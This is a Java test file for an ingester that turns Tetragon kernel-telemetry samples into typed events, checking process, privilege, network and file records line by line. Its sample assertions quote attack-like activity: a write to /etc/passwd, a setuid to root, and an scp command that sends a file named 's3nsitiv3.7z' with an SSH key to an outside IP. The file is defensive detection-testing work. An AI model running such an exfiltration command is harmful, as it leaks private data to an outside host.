package dev.plumbline.ingest.tetragon;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.plumbline.event.FileAction;
import dev.plumbline.event.FileActivity;
import dev.plumbline.event.InlineIdentity;
import dev.plumbline.event.KernelEvent;
import dev.plumbline.event.NetworkAction;
import dev.plumbline.event.NetworkActivity;
import dev.plumbline.event.PrivilegeChange;
import dev.plumbline.event.Process;
import dev.plumbline.event.ProcessExit;
import dev.plumbline.ingest.Kinds;
import dev.plumbline.ingest.Parsed;
import dev.plumbline.ingest.RawRecord;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.apache.avro.generic.IndexedRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Records that the project did not write: each is an event, or rejected for a reason that is listed here. */
class UpstreamSamplesTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    /** What each line of tetragon-all.jsonl is, by its number. */
    private static final String EXPECTED = """
             1 collector.loss
             2 collector.loss
             3 process.launch
             4 file.write
             5 kernel.module_load
             6 kernel.module_load
             7 kernel.module_load
             8 process.launch
             9 kernel.module_load
            10 kernel.module_load
            11 kernel.module_unload
            12 privilege.setuid
            13 privilege.setgid
            14 privilege.setuid
            15 unmodelled: security_bprm_creds_from_file
            16 namespace.setns
            17 process.launch
            18 process.exit
            19 unmodelled: cap_capable
            20 network.close
            21 network.connect
            22 process.launch
            23 process.exit
            24 file.write
            25 network.listen
            26 process.launch
            27 process.exit
            28 file.read
            29 process.launch
            30 process.exit
            31 network.close
            32 network.connect
            33 process.launch
            34 process.exit
            35 process.launch
            36 process.launch
            37 network.listen
            38 process.launch
            39 process.launch
            40 process.launch
            41 process.launch
            42 process.launch
            43 network.connect
            44 process.launch
            45 process.launch
            46 network.close
            47 network.connect
            48 process.exit
            49 process.launch
            50 process.exit
            51 process.exit
            52 process.launch
            53 process.exit
            54 process.launch
            55 process.launch
            56 process.exit
            57 process.launch
            58 network.close
            59 network.connect
            60 process.launch
            61 process.launch
            62 process.launch
            63 file.write
            64 file.open
            65 file.write
            """;

    private static final List<JsonNode> ALL = new ArrayList<>();

    private static Path samples;

    @BeforeAll
    static void find() throws IOException {
        samples = repository().resolveSibling("shared/samples/events/tetragon");
        assumeTrue(Files.isDirectory(samples), "the upstream samples are not beside the repository: " + samples);
        for (String line : Files.readAllLines(samples.resolve("tetragon-all.jsonl"))) {
            ALL.add(JSON.readTree(line));
        }
    }

    @Test
    void everyRecordIsAnEventOrRejectedForAReasonThatIsListed() throws IOException {
        StringBuilder seen = new StringBuilder();
        for (int line = 1; line <= ALL.size(); line++) {
            seen.append("%2d %s%n".formatted(line, outcome(sample(line))));
        }
        assertThat(seen.toString()).isEqualTo(EXPECTED);
    }

    @Test
    void everyKindOfRecordIsAnEventOrRejectedForAReasonThatIsListed() throws IOException {
        Map<String, String> seen = new TreeMap<>();
        for (Path file : files("otel-receiver/events")) {
            seen.put(file.getFileName().toString(), outcome(decode(Files.readAllBytes(file))));
        }
        assertThat(seen)
                .containsExactly(
                        Map.entry("process_exec.json", "process.launch"),
                        Map.entry("process_exit.json", "process.exit"),
                        Map.entry("process_kprobe.json", "collector.finding"),
                        Map.entry("process_loader.json", "library.load"),
                        Map.entry("process_lsm.json", "collector.finding"),
                        Map.entry("process_throttle.json", "collector.loss"),
                        Map.entry("process_tracepoint.json", "collector.finding"),
                        Map.entry("process_uprobe.json", "collector.finding"),
                        Map.entry("process_usdt.json", "collector.finding"),
                        Map.entry("rate_limit_info.json", "collector.loss"),
                        Map.entry("test.json", "unmodelled: test"));
    }

    @Test
    void theExportsOwnTestDataAreReadAsLines() throws IOException {
        assertThat(Files.readAllLines(samples.resolve("testdata-events.jsonl")))
                .extracting(line -> outcome(decode(line.getBytes(UTF_8))))
                .containsExactly("process.launch", "process.launch", "process.launch");
    }

    /** The raw files hold records over many lines that tetragon-all.jsonl has on one. */
    @Test
    void lineEndsInARecordChangeNothing() throws IOException {
        List<String> differing = new ArrayList<>();
        int compared = 0;
        for (Path file : files("raw")) {
            for (int line = 1; line <= ALL.size(); line++) {
                String source = ALL.get(line - 1).path("_src").path("path").asText();
                if (source.endsWith(file.getParent().getFileName() + "/" + file.getFileName())) {
                    compared++;
                    if (!content(decode(Files.readAllBytes(file))).equals(content(sample(line)))) {
                        differing.add(file.toString());
                    }
                }
            }
        }
        assertThat(compared).isEqualTo(40);
        assertThat(differing).isEmpty();
    }

    @Test
    void nothingUnknownIsEmptyText() throws IOException {
        List<String> offenders = new ArrayList<>();
        for (int line = 1; line <= ALL.size(); line++) {
            if (sample(line) instanceof Parsed.Kernel kernel) {
                emptyTexts(kernel.event(), "line " + line, offenders);
            }
        }
        assertThat(offenders).isEmpty();
    }

    @Test
    void everyProcessHasAnIdAndAnAbsolutePath() throws IOException {
        List<String> offenders = new ArrayList<>();
        for (int line = 1; line <= ALL.size(); line++) {
            if (sample(line) instanceof Parsed.Kernel kernel && kernel.event().getProcess() != null) {
                Process process = kernel.event().getProcess();
                if (process.getPid() <= 0 || !process.getBinary().startsWith("/") || process.getUid() == null) {
                    offenders.add(line + ": " + process);
                }
            }
        }
        assertThat(offenders).isEmpty();
    }

    @Test
    void line3IsACurlInAPod() throws IOException {
        KernelEvent event = event(3);
        Process process = event.getProcess();
        assertThat(event.getTime()).isEqualTo("2023-10-06T22:03:57.700326Z");
        assertThat(event.getNode()).isEqualTo("gke-john-632-default-pool-7041cac0-9s95");
        assertThat(process.getPid()).isEqualTo(52699);
        assertThat(process.getBinary()).isEqualTo("/usr/bin/curl");
        assertThat(process.getArgs()).containsExactly("https://ebpf.io/applications/#tetragon");
        assertThat(process.getParentBinary()).isEqualTo("/bin/bash");
        assertThat(process.getParentArgs()).containsExactly("-c", "curl https://ebpf.io/applications/#tetragon");
        assertThat(process.getContainerId())
                .isEqualTo("551e161c47d8ff0eb665438a7bcd5b4e3ef5a297282b40a92b7c77d6bd168eb3");
        assertThat(process.getIdentity())
                .isEqualTo(new InlineIdentity(
                        "xwing",
                        "default",
                        "xwing",
                        "docker.io/tgraf/netperf:latest",
                        "sha256:8e86f744bfea165fd4ce68caa05abc96500f40130b857773186401926af7e9e6",
                        null,
                        null,
                        "spaceship",
                        null,
                        Map.of("app.kubernetes.io/name", "xwing", "class", "xwing", "org", "alliance")));
    }

    @Test
    void line12MakesRootOfUserEleven() throws IOException {
        assertThat(event(12).getProcess().getUid()).isEqualTo(11);
        PrivilegeChange change = (PrivilegeChange) event(12).getActivity();
        assertThat(change.getToUid()).isZero();
        assertThat(change.getCapabilities())
                .hasSize(14)
                .contains("CAP_SETUID", "CAP_DAC_OVERRIDE")
                .doesNotContain("DAC_OVERRIDE", "CAP_SYS_ADMIN");
    }

    @Test
    void line21IsAConnectionWithBothEnds() throws IOException {
        assertThat(event(21).getActivity())
                .isEqualTo(
                        new NetworkActivity(NetworkAction.CONNECT, "tcp", "10.88.0.7", 49168, "142.250.180.196", 80));
        assertThat(event(21).getProcess().getContainerId())
                .isEqualTo("86eb9e29a77d432afc7a15b424db1d24a382f3caae26f860ab22df8cb5e96054");
    }

    @Test
    void line37IsAServerThatListens() throws IOException {
        assertThat(event(37).getActivity())
                .isEqualTo(new NetworkActivity(NetworkAction.LISTEN, "tcp", "0.0.0.0", 80, null, null));
        assertThat(event(37).getProcess().getArgs()).containsExactly("-g", "daemon off;");
    }

    @Test
    void line24IsAWriteWhosePathLacksItsSlash() throws IOException {
        FileActivity write = (FileActivity) event(24).getActivity();
        assertThat(write.getAction()).isEqualTo(FileAction.WRITE);
        assertThat(write.getPath()).isEqualTo("/etc/passwd");
    }

    @Test
    void line64IsAnOpenOfARelativePath() throws IOException {
        assertThat(event(64).getActivity())
                .isEqualTo(new FileActivity(FileAction.OPEN, "tracing_policy.yaml", null, 0L, null, false));
        assertThat(event(64).getProcess().getUid()).isEqualTo(1000);
        assertThat(event(64).getNode()).isNull();
    }

    @Test
    void line18IsAnExitWithoutAStatusWhichIsZero() throws IOException {
        assertThat(event(18).getActivity()).isEqualTo(new ProcessExit(0, null));
    }

    @Test
    void aKilledProcessHasItsSignal() throws IOException {
        Parsed killed = decode(Files.readAllBytes(samples.resolve("otel-receiver/events/process_exit.json")));
        assertThat(((Parsed.Kernel) killed).event().getActivity()).isEqualTo(new ProcessExit(null, 9));
    }

    @Test
    void argumentsWithSpacesAreWhole() throws IOException {
        assertThat(event(52).getProcess().getArgs())
                .containsExactly("-c", "scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~");
        assertThat(event(54).getProcess().getArgs()).endsWith("--", "34.116.205.187", "scp -t ~");
        assertThat(event(35).getProcess().getArgs()).isEmpty();
    }

    private static Path repository() {
        Path here = Path.of("").toAbsolutePath();
        for (Path folder = here; folder != null; folder = folder.getParent()) {
            if (Files.exists(folder.resolve(".git"))) {
                return folder;
            }
        }
        return here;
    }

    private static Parsed sample(int line) throws IOException {
        return decode(JSON.writeValueAsBytes(ALL.get(line - 1).get("event")));
    }

    private static KernelEvent event(int line) throws IOException {
        return ((Parsed.Kernel) sample(line)).event();
    }

    private static Parsed decode(byte[] bytes) {
        List<Parsed> all = TetragonFormat.FORMAT.decoder().decode(new RawRecord(bytes, "sample", 1));
        assertThat(all).hasSize(1);
        return all.get(0);
    }

    private static String outcome(Parsed parsed) {
        return parsed instanceof Parsed.Rejected rejected
                ? rejected.reason() + ": " + rejected.detail()
                : Kinds.of(((Parsed.Kernel) parsed).event());
    }

    /** All that two ways of writing one record have in common: not its id and digest. */
    private static List<Object> content(Parsed parsed) {
        if (parsed instanceof Parsed.Kernel kernel) {
            KernelEvent event = kernel.event();
            List<Object> content = new ArrayList<>(List.of(event.getTime(), event.getActivity()));
            content.add(event.getProcess());
            content.add(event.getNode());
            return content;
        }
        return List.of(outcome(parsed));
    }

    private static void emptyTexts(Object value, String place, List<String> offenders) {
        if (value instanceof IndexedRecord record) {
            record.getSchema()
                    .getFields()
                    .forEach(field -> emptyTexts(record.get(field.pos()), place + "." + field.name(), offenders));
        } else if (value instanceof CharSequence text
                && (text.isEmpty() || text.toString().equals("<NA>"))) {
            offenders.add(place);
        }
    }

    private static List<Path> files(String folder) throws IOException {
        try (Stream<Path> paths = Files.walk(samples.resolve(folder))) {
            return paths.filter(path -> path.toString().endsWith(".json"))
                    .sorted()
                    .toList();
        }
    }
}
